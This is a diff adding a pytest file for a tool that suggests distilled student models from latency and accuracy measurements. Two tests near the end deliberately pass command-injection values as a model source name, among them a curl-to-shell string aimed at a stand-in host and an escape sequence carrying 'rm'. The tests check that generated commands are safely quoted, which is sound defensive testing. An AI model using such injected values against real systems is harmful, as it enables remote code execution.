@@ -1,0 +1,359 @@
+"""Suggesting students: the prediction, its uncertainty, and what is said where it rests on too little."""
+
+import json
+import math
+import shlex
+import subprocess
+import sys
+from collections.abc import Iterable, Sequence
+from pathlib import Path
+
+import msgspec
+import numpy as np
+import pytest
+
+from collector.scoring.question_sets import add_questions
+from collector.store.database import Store
+from collector.summaries.refresh import score_answers
+from contract.bundle import Architecture, Manifest, Weights
+from contract.records import Answer, Record, RunFinished, RunStarted
+from export.errors import BadInput
+from export.models.catalog import find
+from export.suggestion import requirement
+from export.suggestion.flops import gigaflops, parameters
+from export.suggestion.latency import Point, fit, t_quantile
+from export.suggestion.measurements import Length
+from export.suggestion.suggest import suggest
+from tests.collector import factory
+from tests.collector.delivering import take
+
+LENGTHS = [Length(windows=1, tokens=40)] * 4
+
+
+def shape(layers: int, width: int = 384) -> Architecture:
+    return Architecture(
+        family="bert",
+        layers=layers,
+        hidden_size=width,
+        attention_heads=12,
+        intermediate_size=4 * width,
+        vocab_size=30_522,
+        max_positions=512,
+    )
+
+
+@pytest.mark.parametrize(
+    ("freedom", "t"), [(1, 12.7062), (2, 4.3027), (3, 3.1824), (6, 2.4469), (31, 2.0395)]
+)
+def test_t_is_that_of_the_tables(freedom: int, t: float) -> None:
+    assert t_quantile(freedom) == pytest.approx(t, abs=1e-4)
+
+
+def test_the_parameters_are_those_that_transformers_counts() -> None:
+    for name in ("bert-large", "minilm-l6", "tinybert-4l"):
+        model = find(name)
+        found = Architecture(
+            family="bert",
+            layers=model.config["num_hidden_layers"],
+            hidden_size=model.config["hidden_size"],
+            attention_heads=model.config["num_attention_heads"],
+            intermediate_size=model.config["intermediate_size"],
+            vocab_size=30_522,
+            max_positions=512,
+        )
+        assert parameters(found) == model.parameters
+
+
+def test_arithmetic_is_that_of_the_layers() -> None:
+    one = gigaflops(shape(1), [Length(1, 100)])
+    assert one == pytest.approx(2 * (100 * 12 * 384**2 + 2 * 100**2 * 384) / 1e9)
+    assert gigaflops(shape(6), [Length(1, 100)]) == pytest.approx(6 * one)
+    assert gigaflops(shape(1), [Length(2, 200)]) == pytest.approx(2 * one)
+
+
+def test_a_prediction_interval_holds_what_it_promises() -> None:
+    drawn = np.random.default_rng(1)
+    inside = 0
+    for _ in range(400):
+        noise = drawn.normal(0, 0.1, 6)
+        points = [
+            Point(x, "fp32", 3 * x**0.8 * math.exp(e)) for x, e in zip((1, 2, 4, 8, 16), noise, strict=False)
+        ]
+        found = fit(points).predict(6, "fp32")
+        assert found.low is not None and found.high is not None
+        inside += found.low <= 3 * 6**0.8 * math.exp(noise[5]) <= found.high
+    assert 0.92 < inside / 400 < 0.98
+
+
+def test_a_line_through_two_points_has_no_interval() -> None:
+    line = fit([Point(1, "fp32", 10), Point(4, "fp32", 40)])
+    found = line.predict(2, "fp32")
+    assert found.milliseconds == pytest.approx(20) and found.low is found.high is None
+    assert not found.extrapolated and line.predict(8, "fp32").extrapolated
+
+
+@pytest.mark.parametrize(
+    ("text", "sentence"),
+    [
+        ("f1>>80", r"requirement 'f1>>80' is not FIELD>=NUMBER"),
+        ("p95_ms<=60", r"requirement 'p95_ms<=60' names no field 'p95_ms'; the fields are p50_ms"),
+        ("f1>=80", r"requirement 'f1>=80' says nothing about time"),
+        ("p90_ms>=60", r"says nothing about time"),
+    ],
+)
+def test_a_wrong_requirement_is_quoted(text: str, sentence: str) -> None:
+    with pytest.raises(BadInput, match=sentence):
+        requirement.parse(text)
+
+
+RUNS = ((12, "fp32", 122.0), (12, "int8", 58.0), (6, "fp32", 60.0), (6, "int8", 31.0), (4, "fp32", 41.0))
+
+
+def database(path: Path, runs: Iterable[tuple[int, str, float]] = RUNS, text: str = "Dresden") -> Path:
+    """Models of 384 channels on a Raspberry Pi 5, which answer in about 10 ms a layer, half of it in int8."""
+    (path / "rivers.json").write_bytes(factory.QUESTIONS)
+    with Store.open(path / "results.db", create=True) as store:
+        add_questions(store, path / "rivers.json")
+        for layers, precision, ms in runs:
+            answers = [(f"q{n}", text, ms) for n in range(1, 5)]
+            take(store, factory.batch(factory.run_records(answers, bundle(layers, precision))))
+        score_answers(store)
+    return path / "results.db"
+
+
+def bundle(layers: int, precision: str, articles: tuple[str, ...] = ()) -> Manifest:
+    return factory.manifest(
+        f"model-{layers}",
+        precision,
+        architecture=shape(layers),
+        parameters=parameters(shape(layers)),
+        weights=Weights(origin="hub", source=f"example/model-{layers}", training_articles=articles),
+    )
+
+
+def add(path: Path, records: Sequence[Record]) -> None:
+    with Store.open(path) as store:
+        take(store, factory.batch(records))
+        score_answers(store)
+
+
+def test_students_are_fewer_layers_of_the_most_accurate_teacher(tmp_path: Path) -> None:
+    found = suggest(database(tmp_path), "raspberry-pi-5", "f1>=10,p90_ms<=35", None)
+    assert (found.teacher, found.points, found.threads) == ("example/model-12", 5, 4)
+    by_student = {(c.student, c.precision): c for c in found.candidates}
+    three = by_student["layers=3", "fp32"]
+    predicted, low, high = three.latencies_ms["p90_ms"]
+    assert low is not None and high is not None
+    assert 28 < predicted < 33 and low < predicted < high
+    assert three.extrapolated and not by_student["layers=6", "int8"].extrapolated
+    assert by_student["layers=2", "fp32"].verdict == "should meet"
+    assert by_student["layers=11", "fp32"].verdict == "too slow"
+    assert found.already == ("model-6 int8",)
+    ranks = [c.verdict for c in found.candidates]
+    assert ranks == sorted(ranks, key=["should meet", "may meet", "too slow"].index)
+    assert found.commands[0].startswith("export-models distill --teacher example/model-12 --student layers=")
+    assert any(remark.startswith("f1>=10 is not predicted") for remark in found.remarks)
+
+
+def test_no_student_is_as_large_as_its_teacher(tmp_path: Path) -> None:
+    path = database(tmp_path)
+    found = suggest(path, "raspberry-pi-5", "p90_ms<=5000", "model-6")
+    assert found.teacher_title == "model-6"
+    assert {c.student for c in found.candidates} == {*(f"layers={n}" for n in range(1, 6)), "tinybert-4l"}
+    assert [command.split()[5] for command in found.commands[::2]] == ["layers=5"]
+    with pytest.raises(BadInput, match=r"teacher 'mine' is none of the models .* on rivers.*: measure it"):
+        suggest(path, "raspberry-pi-5", "p90_ms<=5000", "mine")
+
+
+def test_a_larger_student_that_may_do_is_named_beside_one_that_should(tmp_path: Path) -> None:
+    found = suggest(database(tmp_path), "raspberry-pi-5", "p90_ms<=33", None)
+    students = [command.split()[5] for command in found.commands[::2]]
+    sure, unsure = (int(student.removeprefix("layers=")) for student in students)
+    assert sure < unsure
+
+
+def test_a_teacher_that_knew_the_articles_has_no_accuracy(tmp_path: Path) -> None:
+    path = database(tmp_path)
+    knowing = bundle(24, "fp32", articles=("Rivers", "Lakes"))
+    add(path, factory.run_records([(f"q{n}", "Dresden", 250.0) for n in range(1, 5)], knowing))
+    found = suggest(path, "raspberry-pi-5", "f1>=10,p90_ms<=35", None)
+    assert (found.teacher, found.points) == ("example/model-12", 6)
+    chosen = suggest(path, "raspberry-pi-5", "f1>=10,p90_ms<=35", "example/model-24")
+    assert chosen.teacher_f1 is None
+    assert any(remark.startswith("nothing is known of the accuracy") for remark in chosen.remarks)
+
+
+def test_what_broke_off_and_other_scenarios_do_not_count(tmp_path: Path) -> None:
+    path = database(tmp_path)
+    before = suggest(path, "raspberry-pi-5", "p90_ms<=35", None)
+    began, *middle, end = factory.run_records([("q1", "Dresden", 9.0)], bundle(12, "fp32"))
+    add(path, [began, *middle])
+    assert isinstance(began, RunStarted) and isinstance(end, RunFinished)
+    add(path, [began, *middle, msgspec.structs.replace(end, status="interrupted")])
+    many = msgspec.structs.replace(began.settings, scenario="offline", batch_size=8)
+    add(path, [msgspec.structs.replace(began, settings=many), *middle, end])
+    assert suggest(path, "raspberry-pi-5", "p90_ms<=35", None) == before
+
+
+def test_a_teacher_that_was_asked_little_is_told(tmp_path: Path) -> None:
+    path = database(tmp_path)
+    add(path, factory.run_records([("q4", "Dresden", 250.0)], bundle(24, "fp32")))
+    found = suggest(path, "raspberry-pi-5", "f1>=10,p90_ms<=35", None)
+    assert found.teacher == "example/model-24"
+    assert any("rests on 1 question, where others were asked up to 4" in r for r in found.remarks)
+
+
+def test_too_few_measurements_are_said_to_be_too_few(tmp_path: Path) -> None:
+    path = database(tmp_path, ((12, "fp32", 120.0), (6, "fp32", 60.0)))
+    found = suggest(path, "raspberry-pi-5", "f1>=99,p90_ms<=35", "model-12")
+    assert found.spread_percent is None
+    assert not [c for c in found.candidates if c.verdict == "should meet"]
+    assert {c.student for c in found.candidates if c.verdict == "may meet"} >= {"layers=1", "layers=3"}
+    assert found.remarks[0].startswith("2 measurements are too few for an interval")
+    assert any("not >= 99, and a student seldom beats its teacher" in remark for remark in found.remarks)
+    assert found.commands[0].startswith("export-models distill --teacher model-12 --student layers=3 ")
+    (alone := tmp_path / "alone").mkdir()
+    one = database(alone, ((12, "fp32", 120.0), (12, "int8", 60.0)))
+    # Two precisions of one model may have been asked other questions: they still are one shape.
+    began, first, *others = factory.run_records(
+        [(f"q{n}", "Dresden", 55.0) for n in (1, 2)], bundle(12, "int8")
+    )
+    assert isinstance(first, Answer)
+    add(one, [began, msgspec.structs.replace(first, marks=("gc",), tokens=90), *others])
+    with pytest.raises(BadInput, match="from two shapes or more, and 1 was measured"):
+        suggest(one, "raspberry-pi-5", "p90_ms<=35", None)
+
+
+def test_sizes_and_nonsense_are_judged(tmp_path: Path) -> None:
+    path = database(tmp_path)
+    small = suggest(path, "raspberry-pi-5", "p50_ms<=500,parameters_m<=18", None)
+    fits = {c.student for c in small.candidates if c.verdict == "should meet"}
+    assert "layers=3" in fits and "layers=4" not in fits
+    with pytest.raises(BadInput, match=r"no single-stream run on 'raspberry-pi-9'; .* on: raspberry-pi-5"):
+        suggest(path, "raspberry-pi-9", "p50_ms<=50", None)
+    (tmp_path / "no.db").write_bytes(b"nothing")
+    with pytest.raises(BadInput, match=r"cannot read '.*no.db'|not a database"):
+        suggest(tmp_path / "no.db", "raspberry-pi-5", "p50_ms<=50", None)
+
+
+def test_the_command_prints_a_table_and_commands(tmp_path: Path) -> None:
+    command = [sys.executable, "-m", "export", "suggest", "--db", database(tmp_path)]
+    asked = [*map(str, command), "--hardware", "raspberry-pi-5", "--require", "f1>=10,p90_ms<=35"]
+    done = subprocess.run(asked, capture_output=True, text=True)
+    assert (done.returncode, done.stderr) == (0, "")
+    assert "predicted from 5 measurements" in done.stdout
+    assert "export-models distill --teacher example/model-12 --student layers=" in done.stdout
+    told = subprocess.run([*asked, "--format", "json"], capture_output=True, text=True)
+    assert json.loads(told.stdout)["points"] == 5
+    refused = subprocess.run([*asked[:-1], "f2>=1"], capture_output=True, text=True)
+    assert refused.returncode == 1 and refused.stderr.count("\n") == 1
+
+
+def nonsense(**changes: object) -> Manifest:
+    """A model of 24 layers that a forger's manifest describes, with everything else in order."""
+    return msgspec.structs.replace(bundle(24, "fp32"), **changes)
+
+
+@pytest.mark.parametrize(
+    ("manifest", "answers"),
+    [
+        (bundle(24, "fp32"), {"infer_ns": 0, "tokenize_ns": 0, "decode_ns": 0}),
+        (bundle(24, "fp32"), {"windows": 0}),
+        (bundle(24, "fp32"), {"tokens": 0}),
+        (nonsense(architecture=shape(0)), {}),
+        (nonsense(architecture=shape(10**15)), {}),
+        (nonsense(architecture=shape(24, width=0)), {}),
+        (nonsense(parameters=0), {}),
+    ],
+)
+def test_a_model_with_nothing_to_compute_with_is_left_out(
+    tmp_path: Path, manifest: Manifest, answers: dict[str, int]
+) -> None:
+    path = database(tmp_path)
+    before = suggest(path, "raspberry-pi-5", "f1>=10,p90_ms<=35", "model-12")
+    records = factory.run_records([(f"q{n}", "Dresden", 250.0) for n in range(1, 5)], manifest)
+    changed = [msgspec.structs.replace(r, **answers) if isinstance(r, Answer) else r for r in records]
+    add(path, changed)
+    found = suggest(path, "raspberry-pi-5", "f1>=10,p90_ms<=35", "model-12")
+    assert (found.points, found.candidates) == (5, before.candidates)
+    assert [remark for remark in found.remarks if remark not in before.remarks] == [
+        "left out, since a size, a length or a time of theirs is 0 or beyond any model: model-24 fp32"
+    ]
+
+
+def test_nothing_but_nonsense_is_one_sentence(tmp_path: Path) -> None:
+    path = database(tmp_path, ((12, "fp32", 122.0), (12, "int8", 58.0)))
+    add(path, factory.run_records([("q1", "Dresden", 250.0)], nonsense(parameters=0)))
+    with pytest.raises(
+        BadInput, match=r"from two shapes or more, and 1 was .* \(left out, .*: model-24 fp32\)"
+    ):
+        suggest(path, "raspberry-pi-5", "p90_ms<=35", None)
+
+
+def test_a_run_that_no_bundle_made_is_left_out(tmp_path: Path) -> None:
+    path = database(tmp_path)
+    before = suggest(path, "raspberry-pi-5", "p90_ms<=35", None)
+    add(path, factory.run_records([("q1", "Dresden", 9.0)], bundle(24, "fp32")))
+    with Store.open(path) as store, store.writing() as conn:
+        conn.execute("UPDATE runs SET bundle = json_remove(bundle, '$.files') WHERE model = 'model-24'")
+    found = suggest(path, "raspberry-pi-5", "p90_ms<=35", None)
+    assert found.candidates == before.candidates
+    assert "1 run is left out, whose manifest cannot be read: collector report says why" in found.remarks
+
+
+def test_a_teacher_of_no_shape_is_none(tmp_path: Path) -> None:
+    path = database(tmp_path)
+    add(path, factory.run_records([("q4", "Dresden", 250.0)], nonsense(architecture=shape(0))))
+    assert suggest(path, "raspberry-pi-5", "f1>=10,p90_ms<=35", None).teacher == "example/model-12"
+    with pytest.raises(BadInput, match=r"teacher 'model-24' is none of the models .* measure it first"):
+        suggest(path, "raspberry-pi-5", "f1>=10,p90_ms<=35", "model-24")
+
+
+def test_a_teacher_that_nothing_is_smaller_than_is_one_sentence(tmp_path: Path) -> None:
+    path = database(tmp_path)
+    small = msgspec.structs.replace(shape(1), vocab_size=119_547)
+    add(path, factory.run_records([("q1", "Dresden", 9.0)], nonsense(architecture=small)))
+    with pytest.raises(
+        BadInput, match="no student is smaller than the teacher 'model-24', which has 1 layer,"
+    ):
+        suggest(path, "raspberry-pi-5", "p90_ms<=35", "model-24")
+
+
+@pytest.mark.parametrize(
+    "source", ["x;curl${IFS}evil|sh", "it's", "a b", "`id`", "$(id)", "~root", "--to=x", ""]
+)
+def test_a_command_means_the_teacher_and_nothing_else(tmp_path: Path, source: str) -> None:
+    path = database(tmp_path)
+    hostile = nonsense(weights=Weights(origin="hub", source=source))
+    add(path, factory.run_records([("q4", "Dresden", 250.0)], hostile))
+    found = suggest(path, "raspberry-pi-5", "p90_ms<=5000", None)
+    assert found.teacher == source
+    command = shlex.split(found.commands[0], comments=True)
+    assert command[:3] == ["export-models", "distill", "--teacher"] and command[3] == source
+    echo = found.commands[0].replace("export-models distill --teacher", "printf %s", 1)
+    assert subprocess.check_output(["sh", "-c", echo.split(" --student")[0]], text=True) == source
+
+
+def test_a_command_brings_no_escape_to_a_terminal(tmp_path: Path) -> None:
+    path = database(tmp_path)
+    hostile = nonsense(weights=Weights(origin="hub", source="a\x1b[2Jb\nrm\u202e"))
+    add(path, factory.run_records([("q4", "Dresden", 250.0)], hostile))
+    found = suggest(path, "raspberry-pi-5", "p90_ms<=5000", None)
+    assert "--teacher 'a?[2Jb?rm?' --student" in found.commands[0]
+
+
+def test_slow_enough_for_sure_is_by_the_lower_end(tmp_path: Path) -> None:
+    found = suggest(database(tmp_path), "raspberry-pi-5", "p90_ms<=5000,p90_ms>=33", None)
+    seen = set()
+    for c in found.candidates:
+        predicted, low, high = c.latencies_ms["p90_ms"]
+        assert low is not None and high is not None
+        seen.add(c.verdict)
+        assert c.verdict == ("should meet" if low >= 33 else "may meet" if predicted >= 33 else "too fast")
+    assert seen == {"should meet", "may meet", "too fast"}
+
+
+def test_a_prediction_beyond_all_numbers_is_no_error() -> None:
+    points = [Point(1.0, "fp32", 1e-6), Point(1.001, "fp32", 9e12), Point(1.002, "fp32", 1e-6)]
+    found = fit(points).predict(1e9, "fp32")
+    assert found.high is not None and math.isfinite(found.high)
